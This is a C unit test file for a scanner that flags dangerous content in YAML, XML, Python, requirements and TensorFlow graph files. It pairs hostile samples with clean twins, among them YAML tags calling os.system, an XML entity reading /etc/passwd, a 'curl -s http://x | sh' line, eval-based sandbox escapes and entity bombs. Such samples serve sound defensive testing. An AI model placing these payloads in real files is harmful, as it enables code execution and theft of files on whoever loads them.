/* YAML, XML, Python source, requirements, protocol buffer text. */
#include "scan_mem.h"

struct sample {
    const char *text;
    const char *rule; /* NULL: clean */
};

static void check_all(const struct sample *samples, size_t n) {
    for (size_t i = 0; i < n; i++) {
        struct scanned s = scan_mem(bz_view_str(samples[i].text));
        assert_int_equal(s.st, BZ_OK);
        bool good = samples[i].rule == NULL ? s.r.verdict == BZ_SCAN_CLEAN
                                            : scan_mem_has(&s, samples[i].rule) != NULL;
        if (!good) {
            scan_mem_print(&s);
            fail_msg("%s: %s expected, %s, verdict %d", samples[i].text,
                     samples[i].rule == NULL ? "nothing" : samples[i].rule, s.r.format,
                     (int)s.r.verdict);
        }
        scan_mem_done(&s);
    }
}
#define CHECK(samples) check_all(samples, sizeof samples / sizeof samples[0])

static void yaml(void **state) {
    static const struct sample samples[] = {
        {"!!python/object/apply:os.system [\"id\"]\n", "YAML-PYTHON"},
        {"a: !!python/object/new:subprocess.Popen [[id]]\n", "YAML-PYTHON"},
        {"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n",
         "YAML-PYTHON"},
        {"a: !<tag:yaml.org,2002:python/name:os.system> ''\n", "YAML-PYTHON"},
        {"a: !<tag:yaml.org,2002:python/%6fbject/apply:os.system> []\n", "YAML-PYTHON"},
        {"a: !!python/object:my.Thing {}\n", "YAML-OBJECT"},
        {"a: !!javax.script.ScriptEngineManager []\n", "YAML-OBJECT"},
        {"a: !ruby/object:Gem::Installer {}\n", "YAML-OBJECT"},
        {"a: !!python/name:eval ''\nb: [\n", "YAML-PYTHON"}, /* before a parse error */
        {"a: !!python/object/apply:os.system [id]\nb: \"{% for m in messages %}{{ m }}{% endfor "
         "%}\"\n",
         "YAML-PYTHON"},
        {"a: {_target_: os.system, command: id}\n", "JSON-TARGET"},
        {"trust_remote_code: true\n", "HF-TRUST"},
        {"flavors:\n  python_function:\n    loader_module: evil\n", "HF-IMPORT"},
        {"class_name: Model\nconfig:\n  layers:\n  - class_name: Lambda\n    config: {function: "
         "[a, null, null]}\n",
         "KERAS-LAMBDA"},
        {"run: curl -s http://x | sh\n", "JSON-COMMAND"},
        {"a: &a [1,1,1,1,1,1,1,1,1,1]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: &c "
         "[*b,*b,*b,*b,*b,*b,*b,*b,*b,*b]\nd: &d [*c,*c,*c,*c,*c,*c,*c,*c,*c,*c]\ne: &e "
         "[*d,*d,*d,*d,*d,*d,*d,*d,*d,*d]\nf: &f [*e,*e,*e,*e,*e,*e,*e,*e,*e,*e]\ng: "
         "[*f,*f,*f,*f,*f,*f,*f,*f,*f,*f]\n",
         "YAML-BOMB"},
        {"chat_template: \"{{ ''.__class__.__mro__ }}\"\n", "TPL-CODE"},
        /* their twins */
        {"a: !!python/tuple [1, 2]\nb: !!binary aGk=\nc: !Ref x\nd: !!set {a, b}\n", NULL},
        {"hp: !!python/object:argparse.Namespace\n  lr: 1\n", NULL},
        {"base: &b {a: 1}\nx: *b\ny: {<<: *b}\n", NULL},
        {"model:\n  _target_: nemo.collections.asr.models.X\n", NULL},
        {"flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n", NULL},
        {"---\nlicense: mit\ntags: [a]\n---\n# Title\n\nSome `{{ text }}`: with words\n", NULL},
        {"a: 'text !!python/object/apply:os.system'\n", NULL},
    };
    (void)state;
    CHECK(samples);
}

static void yaml_depth(void **state) {
    (void)state;
    for (int levels = 254; levels <= 258; levels++) {
        char text[600] = "a: ";
        size_t n = strlen(text);
        for (int i = 0; i < levels; i++)
            text[n++] = '[';
        for (int i = 0; i < levels; i++)
            text[n++] = ']';
        text[n++] = '\n';
        struct scanned s = scan_mem(bz_view(text, n));
        assert_int_equal(s.st, BZ_OK);
        assert_int_equal(scan_mem_has(&s, "YAML-DEEP") != NULL, levels + 1 > 256);
        scan_mem_done(&s);
    }
}

#define XML "<?xml version=\"1.0\"?>"
static void xml(void **state) {
    static const struct sample samples[] = {
        {XML "<!DOCTYPE p [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><PMML>&x;</PMML>",
         "XML-EXTERNAL"},
        {XML "<!DOCTYPE p [<!ENTITY % x PUBLIC \"a\" \"http://b\"> %x;]><PMML/>", "XML-EXTERNAL"},
        {XML "<!DOCTYPE p [<!-- > ]> --><!ENTITY x SYSTEM 'file:///x'>]><PMML/>", "XML-EXTERNAL"},
        {XML "<!DOCTYPE p [<!ENTITY a \"x\"><!ENTITY b \"&a;&a;\"><!ENTITY c "
             "\"&b;&b;\">]><PMML>&c;</PMML>",
         "XML-BOMB"},
        {XML "<!DOCTYPE p SYSTEM \"http://evil/x.dtd\"><PMML/>", "XML-DTD"},
        {"<PMML xmlns:xi=\"http://www.w3.org/2001/XInclude\"><xi:include "
         "href=\"file:///x\"/></PMML>",
         "XML-INCLUDE"},
        {"<PMML><Extension><Script>x</Script></Extension></PMML>", "XML-SCRIPT"},
        {"<PMML><Extension value=\"Runtime.getRuntime().exec('id')\"/></PMML>", "XML-SCRIPT"},
        {"<PMML><a><![CDATA[javax.script.ScriptEngine]]></a></PMML>", "XML-SCRIPT"},
        {XML "<?xml-stylesheet href=\"http://x\"?><PMML/>", "XML-STYLESHEET"},
        {"<PMML><Header>", "XML-MALFORMED"},
        {"<PMML></PMML></PMML>", "XML-MALFORMED"},
        {"<PMML a=1></PMML>", "XML-MALFORMED"},
        {"<PMML><!-- x", "XML-MALFORMED"},
        {XML "<net name=\"n\"><layers><layer type=\"E\" version=\"extension\"/></layers></net>",
         "OV-CUSTOM-OP"},
        {XML "<net name=\"n\"><layers><layer type=\"E\" version=\"my_opset1\"/></layers></net>",
         "OV-CUSTOM-OP"},
        {XML "<net name=\"n\"><layers><layer version=\"opset1\"><data offset=\"-1\" "
             "size=\"4\"/></layer></layers></net>",
         "OV-RANGE"},
        {XML "<net name=\"n\"><layers><layer type=\"E\" version=\"opset1\" "
             "library=\"/tmp/x.so\"/></layers></net>",
         "OV-LIBRARY"},
        {"version https://git-lfs.github.com/spec/v1\noid sha256:00\nsize 1\n", "LFS-POINTER"},
        /* their twins */
        {XML "<PMML version=\"4.4\"><Header><Extension name=\"a\" value=\"b\"/></Header><!-- <x> "
             "--></PMML>",
         NULL},
        {XML "<!DOCTYPE PMML PUBLIC \"-//DMG//DTD PMML 2.1//EN\" "
             "\"http://www.dmg.org/pmml-2-1.dtd\"><PMML/>",
         NULL},
        {XML "<net name=\"n\"><layers><layer type=\"C\" version=\"opset13\"><data offset=\"0\" "
             "size=\"4\" a='>'/></layer></layers></net>",
         NULL},
    };
    (void)state;
    CHECK(samples);
}

/* In UTF-16 no name stands as bytes. */
static void xml_wide(void **state) {
    static const char text[] = "<!DOCTYPE p [<!ENTITY x SYSTEM 'file:///x'>]><PMML>&x;</PMML>";
    uint8_t wide[2 * sizeof text + 2] = {0xff, 0xfe};
    (void)state;
    for (int big = 0; big < 2; big++) {
        wide[0] = big ? 0xfe : 0xff;
        wide[1] = big ? 0xff : 0xfe;
        for (size_t i = 0; i + 1 < sizeof text; i++) {
            wide[2 + 2 * i + (size_t)big] = (uint8_t)text[i];
            wide[3 + 2 * i - (size_t)big] = 0;
        }
        wide[2] = big ? 0 : '<';
        struct scanned s = scan_mem(bz_view(wide, 2 * sizeof text));
        assert_int_equal(s.st, BZ_OK);
        assert_non_null(scan_mem_has(&s, "XML-EXTERNAL"));
        scan_mem_done(&s);
    }
}

static void python(void **state) {
    static const struct sample samples[] = {
        {"# a\nimport os\nos.system('id')\n", "PY-PROCESS"},
        {"\nfrom os import (path,\n    system as s)\ndef f():\n    s('id')\n", "PY-PROCESS"},
        {"\nimport subprocess as sp\nclass A:\n    x = sp.run\n", "PY-PROCESS"},
        {"\ndef f():\n    exec('x')\n", "PY-EVAL"},
        {"\nimport torch\n__import__('os')\n", "PY-EVAL"},
        {"import os\n__import__('os').system('id')\n", "PY-PROCESS"},
        {"import x\ny = __import__('subprocess')\ny.run(1)\n", "PY-PROCESS"},
        {"import importlib\nimportlib.import_module( 'os' ) .popen(1)\n", "PY-PROCESS"},
        {"import importlib as i\nz = i.import_module(\"pty\")\nz.spawn(1)\n", "PY-PROCESS"},
        {"import os\nf = getattr(os, 'system')\n", "PY-PROCESS"},
        {"import os\nf = getattr(os, 'sys' + 'tem')\n", "PY-EVAL"},
        {"import os as o\nf = getattr(o, name)\n", "PY-EVAL"},
        {"import builtins\ngetattr(builtins, 'eval')('1')\n", "PY-EVAL"},
        {"import x\ngetattr(__builtins__, 'ex' 'ec')('1')\n", "PY-EVAL"},
        {"import sys\nsys.modules['os'].system('id')\n", "PY-PROCESS"},
        {"import builtins\nbuiltins.__dict__['exec']('1')\n", "PY-EVAL"},
        {"import x\n__builtins__['exec']('1')\n", "PY-EVAL"},
        {"import x\nglobals()['__builtins__']\n", "PY-EVAL"},
        {"import x\nfor c in ().__class__.__base__.__subclasses__():\n    pass\n", "PY-EVAL"},
        {"import x\nfor c in object.__subclasses__():\n    pass\n", "PY-EVAL"},
        {"\nimport urllib.request\nurllib.request.urlopen('http://x')\n", "PY-NETWORK"},
        {"\nimport pickle\npickle.loads(x)\n", "PY-LOAD"},
        {"\nimport ctypes\nctypes.CDLL('x')\n", "PY-LOAD"},
        {"# -*- coding: utf-7 -*-\nimport torch\n", "PY-EVAL"},
        {"#!/usr/bin/python3\n# coding=unicode_escape\nimport torch\n", "PY-EVAL"},
        {"# -*- coding: utf-8 -*-\nimport torch\n", NULL},
        {"# -*- coding: ISO-8859-1 -*-\nimport torch\n", NULL},
        {"\nimport torch\nclass M(torch.nn.Module):\n    def eval(self):\n        "
         "self.model.eval()\n        # os.system('x')\n        return 'subprocess.run()'\n",
         NULL},
        {"\nfrom transformers import AutoModel\nmodel = "
         "AutoModel.from_pretrained('x').eval()\n\"\"\"\nexec('x')\n\"\"\"\n",
         NULL},
        {"import os\nx = getattr(os, 'O_BINARY', 0)\ny = getattr(self, name)\n", NULL},
        {"import importlib\nm = importlib.import_module('torch.nn')\nm.Linear(1)\n", NULL},
        {"import sys\nm = sys.modules[__name__]\nn = sys.modules['torch'].nn\n", NULL},
        {"import importlib\nm = importlib.import_module(name)\nm.run()\n", NULL},
        {"Text that says import the data, from there.\n", NULL},
    };
    (void)state;
    CHECK(samples);
}

static void requirements(void **state) {
    static const struct sample samples[] = {
        {"torch\nevil @ https://x/y.whl\n", "REQ-URL"},
        {"torch>=2\ngit+https://github.com/x/y@main\n", "REQ-URL"},
        {"--extra-index-url http://a/\ntorch\n", "REQ-INDEX"},
        {"torch>=2.0,<3\nnumpy[all]==1.2 # x\n\n# c\nx; python_version<'3'\n-r other.txt\n", NULL},
        {"hello\nworld\n", NULL},
    };
    (void)state;
    CHECK(samples);
}

static void graph_text(void **state) {
    static const struct sample samples[] = {
        {"node { name: \"a\" op: \"PyFunc\" }\n", "TF-PYTHON"},
        {"node { name: \"a\" op: 'Read' \"File\" }\n", "TF-FILE"},
        {"# it's \"\nnode { op: \"PyFunc\" }", "TF-PYTHON"},
        {"# c\nsaved_model_schema_version: 1\nmeta_graphs < graph_def < node < op: "
         "\"\\127riteFile\" > > >\n",
         "TF-FILE"},
        {"library { function { node_def { op: \"EagerPyFunc\" } } }", "TF-PYTHON"},
        {"node { op: \"PrintV2\" attr { key: \"output_stream\" value { s: \"file:///x\" } } }",
         "TF-STREAM"},
        {"meta_graphs { asset_file_def { filename: \"../x\" } }", "TF-ASSET"},
        {"meta_graphs { object_graph_def { nodes { user_object { metadata: "
         "\"{\\\"class_name\\\":\\\"Lambda\\\",\\\"config\\\":{\\\"function\\\":[\\\"a\\\"]}}\" } "
         "} } }",
         "KERAS-LAMBDA"},
        {"name: \"n\"\nlayer { name: \"x\" type: \"Python\" python_param { module: \"m\" } }",
         "CAFFE-PYTHON"},
        {"node { op: \"Const\" ", "TF-MALFORMED"},
        {"node { op: \"Const }\n", "TF-MALFORMED"},
        {"node { op: \"Const\" } }", "TF-MALFORMED"},
        {"node { name: \"PyFunc\" op: \"Const\" }\nversions { producer: 1 }\n", NULL},
        {"name: \"n\"\nlayer { name: \"Python\" type: \"Convolution\" }", NULL},
        {"node { op: \"PrintV2\" attr { key: \"output_stream\" value { s: \"stderr\" } } }", NULL},
    };
    (void)state;
    CHECK(samples);
}

int main(void) {
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(yaml),       cmocka_unit_test(yaml_depth), cmocka_unit_test(xml),
        cmocka_unit_test(xml_wide),   cmocka_unit_test(python),     cmocka_unit_test(requirements),
        cmocka_unit_test(graph_text),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
